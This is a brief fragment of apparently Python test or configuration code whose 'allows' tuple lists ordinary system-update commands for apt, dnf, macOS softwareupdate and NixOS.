        allows=("do-release-upgrade -c", "dnf upgrade -y jq", "softwareupdate --list", "nixos-rebuild build"),
    ),
)
